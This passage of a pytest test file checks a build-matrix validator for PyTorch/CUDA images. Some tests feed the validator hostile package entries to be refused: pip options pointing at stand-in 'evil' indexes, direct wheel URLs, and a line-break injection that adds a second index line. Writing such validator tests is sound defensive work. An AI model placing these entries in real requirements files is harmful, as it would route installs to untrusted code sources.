        "latest": "2.15.0-cu132-py3.12-full",
    }
    assert default_matrix.latest.id == "2.15.0-cu132-py3.12"


def test_default_matrix_warns_only_about_unpinned_bases(default_matrix: Matrix) -> None:
    assert all("not pinned by digest" in w.message for w in default_matrix.warnings)


# Derived facts -------------------------------------------------------------------------


@pytest.mark.parametrize("source", ["base", "default"])
def test_derived_facts_of_the_2_14_1_cuda_13_0_cell_are_filled(
    source: str, default_matrix: Matrix
) -> None:
    matrix = parse(BASE) if source == "base" else default_matrix
    cell = next(c for c in matrix.cells if c.id == "2.14.1-cu130-py3.12")
    assert cell.cudnn == "9.24.0.43"
    assert cell.nccl == "2.30.7"
    assert cell.min_driver == "580.65.06"
    assert "sm_90" in cell.archs and "sm_70" not in cell.archs
    assert cell.index_url.endswith("/whl/cu130")
    assert cell.glibc_floor == "2.28"
    assert cell.cuda_home == "nvidia/cu13"
    assert "nvidia-cuda-nvcc==13.0.*" in cell.compiler_packages
    assert cell.experimental is False
    assert cell.base_image.startswith("ubuntu:24.04")


def test_derived_facts_of_a_cpu_cell_are_empty(default_matrix: Matrix) -> None:
    cell = next(c for c in default_matrix.cells if c.id == "2.15.0-cpu-py3.12")
    assert (cell.cuda, cell.cudnn, cell.nccl, cell.min_driver) == (None, None, None, None)
    assert cell.archs == () and cell.compiler_packages == ()
    assert cell.index_url.endswith("/whl/cpu")


# leave_out -------------------------------------------------------------------------


def test_slim_may_leave_out_a_package_that_full_installs_back() -> None:
    text = edit(
        "    size_budget_bytes: 8000000000\n",
        "    size_budget_bytes: 8000000000\n    leave_out: [triton]\n    compile: false\n",
    )
    matrix = parse(text)
    assert {p.flavour: p.leave_out for p in matrix.plans} == {
        "slim": ("triton",),
        "full": ("triton",),
    }


def test_leave_out_under_full_is_located_and_sent_to_slim() -> None:
    text = edit(
        "    size_budget_bytes: 11000000000\n",
        "    size_budget_bytes: 11000000000\n    leave_out: [triton]\n",
    )
    problem = one_problem(text)
    assert where(problem) == at(text, "leave_out: [triton]", "[triton]")
    assert "slim flavour only" in problem.message and "flavours.slim" in problem.hint


def test_torch_cannot_be_left_out() -> None:
    text = edit(
        "    size_budget_bytes: 8000000000\n",
        "    size_budget_bytes: 8000000000\n    leave_out: [triton, torch]\n    compile: false\n",
    )
    problem = one_problem(text)
    assert where(problem) == at(text, "[triton, torch]", "torch]")
    assert "torch cannot be left out" in problem.message


# compile ---------------------------------------------------------------------------


def test_compile_is_on_by_default_and_slim_may_turn_it_off() -> None:
    assert {p.flavour: p.compile for p in parse(BASE).plans} == {
        "slim": True,
        "full": True,
    }
    text = edit(
        "    size_budget_bytes: 8000000000\n",
        "    size_budget_bytes: 8000000000\n    compile: false\n",
    )
    assert {p.flavour: p.compile for p in parse(text).plans} == {"slim": False, "full": True}


def test_compile_false_under_full_is_located() -> None:
    text = edit(
        "    size_budget_bytes: 11000000000\n",
        "    size_budget_bytes: 11000000000\n    compile: false\n",
    )
    problem = one_problem(text)
    assert where(problem) == at(text, "compile: false", "false")
    assert "slim flavour only" in problem.message and "flavours.full" in problem.hint


def test_a_slim_without_compile_that_requires_the_compile_probe_is_warned_of() -> None:
    text = edit(
        "    size_budget_bytes: 8000000000\n",
        "    size_budget_bytes: 8000000000\n    compile: false\n"
        "    required_probes: [env, compile]\n",
    )
    (warning,) = [w for w in parse(text).warnings if "compile probe" in w.message]
    assert where(warning) == at(text, "required_probes: [env, compile]", "[env, compile]")
    assert "publish will refuse every slim" in warning.message
    assert "drop compile" in warning.hint
    ok = text.replace("[env, compile]", "[env]")
    assert not [w for w in parse(ok).warnings if "compile probe" in w.message]


def test_a_slim_that_compiles_cannot_leave_triton_out() -> None:
    text = edit(
        "    size_budget_bytes: 8000000000\n",
        "    size_budget_bytes: 8000000000\n    leave_out: [triton]\n",
    )
    problem = one_problem(text)
    assert where(problem) == at(text, "leave_out: [triton]", "[triton]")
    assert "inductor needs triton" in problem.message and "compile: false" in problem.hint


def test_a_default_os_known_to_the_data_but_missing_from_bases_is_one_located_problem() -> None:
    # Every entry inherits that OS: the problem is reported once, at `defaults.os`, and no
    # entry goes on to look up a base that does not exist (it used to end in a KeyError).
    text = edit("  os: ubuntu-24.04\n", "  os: ubuntu-22.04\n")
    found = problems(text)
    assert where(found[0]) == at(text, "  os: ubuntu-22.04", "ubuntu-22.04")
    assert "base OS 'ubuntu-22.04' has no entry under `bases`" in found[0].message
    # With no cell left, `latest` names nothing: said too, at its own line.
    assert [p.message.split(" (")[0] for p in found[1:]] == ["latest"]


# packages: requirement specifiers only ------------------------------------------------------


def with_packages(flavour_budget: str, *entries: str, text: str = BASE) -> str:
    """`text` with a block `packages:` list (each entry double-quoted) under the flavour
    whose `size_budget_bytes` line ends in `flavour_budget`."""
    line = f"    size_budget_bytes: {flavour_budget}\n"
    items = "".join(f"      - {json.dumps(e)}\n" for e in entries)
    return edit(line, f"{line}    packages:\n{items}", text)


FULL_BUDGET, SLIM_BUDGET = "11000000000", "8000000000"
PACKAGE_HINT = (
    "write NAME==VERSION; pass indexes with --pip-index-url/--extra-index-url, "
    "wheels with --wheelhouse"
)


@pytest.mark.parametrize(
    ("entry", "why"),
    [
        pytest.param("--index-url http://evil/simple", "is a pip option", id="index-url"),
        pytest.param("--extra-index-url https://x.example/simple", "is a pip option", id="extra"),
        pytest.param("-i http://evil/simple", "is a pip option", id="short-i"),
        pytest.param("-f ./wheels", "is a pip option", id="short-f"),
        pytest.param("--find-links=/wheels", "is a pip option", id="find-links"),
        pytest.param("--trusted-host evil.example", "is a pip option", id="trusted-host"),
        pytest.param("-r other.txt", "is a pip option", id="requirements-file"),
        pytest.param("-e git+https://github.com/a/b", "is a pip option", id="editable"),
        pytest.param("pkg @ http://host/x.whl", "is a direct reference", id="direct-reference"),
        pytest.param("pkg@file:///tmp/x.whl", "is a direct reference", id="direct-file"),
        pytest.param("git+https://github.com/a/b", "is a URL or a path", id="vcs-url"),
        pytest.param("https://host/x-1.0-py3-none-any.whl", "is a URL or a path", id="bare-url"),
        pytest.param("./local/pkg", "is a URL or a path", id="relative-path"),
        pytest.param("/abs/x-1.0-py3-none-any.whl", "is a URL or a path", id="absolute-path"),
        pytest.param("x-1.0-py3-none-any.whl", "looks like a file name", id="wheel-file-name"),
        pytest.param("numpy==1.0 --hash=sha256:abc", "is not a requirement (PEP 508)", id="hash"),
        pytest.param("numpy; --index-url x", "is not a requirement (PEP 508)", id="bad-marker"),
        pytest.param("numpy==${VERSION}", "is not a requirement (PEP 508)", id="env-variable"),
        pytest.param("two words", "is not a requirement (PEP 508)", id="not-a-name"),
    ],
)
def test_package_that_is_not_a_requirement_specifier_is_located_at_its_item(
    entry: str, why: str
) -> None:
    # Written verbatim into a requirements file, each would bypass --wheelhouse and
    # --pip-index-url (or break the file).
    doc = with_packages(FULL_BUDGET, "jupyterlab==4.6.6", entry)
    problem = one_problem(doc)
    assert where(problem) == at(doc, f"- {json.dumps(entry)}", json.dumps(entry))
    assert problem.message.startswith(f"package {entry!r} {why}")
    assert problem.hint == PACKAGE_HINT


def test_bad_packages_of_both_flavours_are_all_reported() -> None:
    doc = with_packages(SLIM_BUDGET, "-i http://evil/simple")
    doc = with_packages(FULL_BUDGET, "numpy==2.1.0", "pkg @ http://host/x.whl", text=doc)
    found = problems(doc)
    assert [where(p) for p in found] == [
        at(doc, '"-i http://evil/simple"'),
        at(doc, '"pkg @ http://host/x.whl"'),
    ]


def test_package_in_a_flow_list_is_located_at_its_item() -> None:
    doc = edit(
        f"    size_budget_bytes: {FULL_BUDGET}\n",
        f"    size_budget_bytes: {FULL_BUDGET}\n"
        "    packages: [jupyterlab==4.6.6, --index-url=http://evil/simple]\n",
    )
    problem = one_problem(doc)
    assert where(problem) == at(doc, "--index-url=http://evil/simple")
    assert "is a pip option" in problem.message


def test_package_with_a_line_break_is_refused_once_at_its_value() -> None:
    doc = with_packages(FULL_BUDGET, "numpy==2.1.0\n--index-url http://evil/simple")
    problem = one_problem(doc)
    assert where(problem) == at(doc, '"numpy==2.1.0\\n')
    assert "line breaks (U+000A)" in problem.message


@pytest.mark.parametrize(
    "entry",
    [
        "jupyterlab==4.6.6",
        "numpy[extra]>=1.26,<3",
        "numpy==2.1.0; python_version < '3.13'",
        "Tensorboard ~= 2.21",
        "typing_extensions",
    ],
)
def test_requirement_specifiers_with_extras_and_markers_are_accepted(entry: str) -> None:
    matrix = parse(with_packages(FULL_BUDGET, entry))
    assert {p.flavour: p.packages for p in matrix.plans} == {"slim": (), "full": (entry,)}


@pytest.mark.parametrize(
    ("items", "target"),
    [
        pytest.param("[--index-url]", "--index-url", id="pip-option"),
        pytest.param('["triton @ http://host/t.whl"]', '"triton @', id="direct-reference"),
        pytest.param("[triton==3.4.0]", "triton==3.4.0", id="pinned"),
        # The schema's pattern lets this one through; the name check after it does not.
        pytest.param("[triton-]", "triton-", id="trailing-dash"),
    ],
)
def test_leave_out_names_a_distribution_only(items: str, target: str) -> None:
    doc = edit(
        f"    size_budget_bytes: {SLIM_BUDGET}\n",
        f"    size_budget_bytes: {SLIM_BUDGET}\n    leave_out: {items}\n",
    )
    problem = one_problem(doc)
    assert where(problem) == at(doc, f"leave_out: {items}", target)
    assert problem.message.endswith('is not a distribution name like "triton"')
    assert (
        problem.hint == "name the distribution only (e.g. triton): no version, option, URL or path"
    )


# The file itself: size and encoding ---------------------------------------------------------


def test_matrix_file_over_one_mib_is_refused_at_its_top_before_parsing(tmp_path: Path) -> None:
    path = tmp_path / "matrix.yaml"
    # Valid YAML all the way: only its size is wrong.
    path.write_text(BASE + "#" * (MAX_MATRIX_BYTES - len(BASE)) + "\n", encoding="utf-8")
    with pytest.raises(ValidationError) as info:
        load_matrix(path)
    (problem,) = info.value.problems
    assert (problem.file, problem.line, problem.col) == (str(path), 1, 1)
    assert problem.message.startswith(
        f"the matrix file is larger than 1 MiB ({MAX_MATRIX_BYTES + 1:,} bytes)"
    )
    assert "--matrix" in problem.hint


def test_matrix_file_of_exactly_one_mib_is_read(tmp_path: Path) -> None:
    path = tmp_path / "matrix.yaml"
    path.write_text(BASE + "#" * (MAX_MATRIX_BYTES - len(BASE) - 1) + "\n", encoding="utf-8")
    assert path.stat().st_size == MAX_MATRIX_BYTES
    assert [p.flavour for p in load_matrix(path).plans] == ["slim", "full"]


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="needs /dev/zero")
def test_an_endless_file_is_refused_without_being_read_whole() -> None:
    with pytest.raises(ValidationError) as info:
        load_matrix("/dev/zero")
    (problem,) = info.value.problems
    assert where(problem) == (1, 1) and "larger than 1 MiB," in problem.message


def test_matrix_text_over_one_mib_is_refused_by_parse_matrix_too() -> None:
    problem = one_problem(BASE + "#" * MAX_MATRIX_BYTES + "\n")
    assert where(problem) == (1, 1) and "larger than 1 MiB" in problem.message


def test_matrix_file_that_is_not_utf8_is_located_at_the_first_bad_byte(tmp_path: Path) -> None:
    path = tmp_path / "matrix.yaml"
    doc = edit("releases:\n", "# café\nreleases:\n")
    path.write_bytes(doc.encode("latin-1"))
    with pytest.raises(ValidationError) as info:
        load_matrix(path)
    (problem,) = info.value.problems
    assert where(problem) == at(doc, "# café", "é")
    assert "not UTF-8 text" in problem.message and "0xe9" in problem.message
    assert "save it as UTF-8" in problem.hint


def test_binary_file_is_refused_as_not_utf8_at_its_top(tmp_path: Path) -> None:
    path = tmp_path / "matrix.yaml"
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)))
    with pytest.raises(ValidationError) as info:
        load_matrix(path)
    (problem,) = info.value.problems
    assert where(problem) == (1, 1) and "not UTF-8 text (byte 0, 0x89)" in problem.message
